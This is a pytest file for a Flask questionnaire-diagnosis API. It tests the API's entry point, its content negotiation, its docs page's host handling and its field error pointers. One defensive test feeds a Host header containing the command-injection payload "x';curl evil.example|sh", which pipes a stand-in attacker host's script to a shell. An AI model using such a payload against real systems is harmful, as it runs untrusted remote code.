"""The pages beside the resources: the way in, and commands that nobody else can write."""

from dataclasses import replace

import pytest
from flask import Flask
from flask.testing import FlaskClient

from diagnosis.bootstrap import Container
from diagnosis.web.app import create_app
from tests.builders import a_sheet


def test_the_way_in_names_what_there_is(client: FlaskClient) -> None:
    for language in ("zh-Hans", "en"):
        answer = client.get("/v1", headers={"Accept-Language": language})
        assert (answer.status_code, answer.mimetype) == (200, "application/json")
        assert answer.headers["Content-Language"] == language
        places = answer.json or {}
        for path in (places["docs"], places["openapi"], places["health"],
                     *places["resources"].values()):  # fmt: skip
            assert client.get(path).status_code == 200, path
    assert client.head("/v1").status_code == 200
    assert client.post("/v1").status_code == 405


@pytest.mark.parametrize(
    "accepted", ["text/html", "application/xml", "*/*;q=0", "application/json;q=0", ";;", ""]
)
def test_what_is_accepted_decides_nothing(client: FlaskClient, accepted: str) -> None:
    headers = {"Accept": accepted}
    for path in ("/v1", "/v1/standards", "/v1/diagnoses"):
        answer = client.get(path, headers=headers)
        assert (answer.status_code, answer.mimetype) == (200, "application/json")
    preview = client.post("/v1/diagnoses/preview", json=a_sheet(), headers=headers)
    assert (preview.status_code, preview.mimetype) == (200, "application/json")
    wrong = client.get("/v1/none", headers=headers)
    assert (wrong.status_code, wrong.mimetype) == (404, "application/problem+json")


@pytest.mark.parametrize(
    ("host", "shown"),
    [
        ("127.0.0.1:8010", "http://127.0.0.1:8010/v1/"), ("localhost", "http://localhost/v1/"),
        ("[::1]:9000", "http://[::1]:9000/v1/"), ("evil.example", "http://127.0.0.1:8000/v1/"),
        ("localhost.evil.example", "http://127.0.0.1:8000/v1/"),
    ],
)  # fmt: skip
def test_commands_are_for_this_machine(client: FlaskClient, host: str, shown: str) -> None:
    page = client.get("/docs", headers={"Host": host}).get_data(as_text=True)
    assert f"\n  {shown}" in page and "evil" not in page


@pytest.mark.parametrize("host", ["127.0.0.1:8000@evil.example", "x';curl evil.example|sh"])
def test_what_is_no_host_gets_no_page(client: FlaskClient, host: str) -> None:
    answer = client.get("/docs", headers={"Host": host})
    assert (answer.status_code, answer.mimetype) == (400, "application/problem+json")
    assert "evil" not in answer.get_data(as_text=True)


def test_commands_are_for_the_address_of_the_settings(app: Flask) -> None:
    service: Container = app.extensions["diagnosis"]
    known = replace(service.settings, public_url="https://diagnosis.example/sme")
    client = create_app(replace(service, settings=known)).test_client()
    for host in ("localhost:8000", "evil.example"):
        page = client.get("/docs", headers={"Host": host}).get_data(as_text=True)
        assert "https://diagnosis.example/sme/v1/diagnoses" in page
        assert "evil" not in page and "localhost" not in page


def test_facts_of_a_form_say_where_they_go(client: FlaskClient) -> None:
    form = client.get("/v1/questionnaires/screening").json or {}
    sheet = a_sheet(form="screening", period=2025, reference="R")
    places = {fact["id"]: fact["pointer"] for fact in form["profile"]}
    assert (places["name"], places["period"]) == ("/enterprise/name", "/period")
    assert places["reference"] == "/reference"
    assert set(places) >= {*sheet["enterprise"], "period", "reference"}
    for place in places.values():
        *within, name = place.strip("/").split("/")
        wrong = whole = a_sheet(form="screening")
        for part in within:
            whole = whole.setdefault(part, {})
        whole[name] = {"x": 1}
        faults = (client.post("/v1/diagnoses/preview", json=wrong).json or {})["errors"]
        assert [fault["pointer"] for fault in faults] == [place]
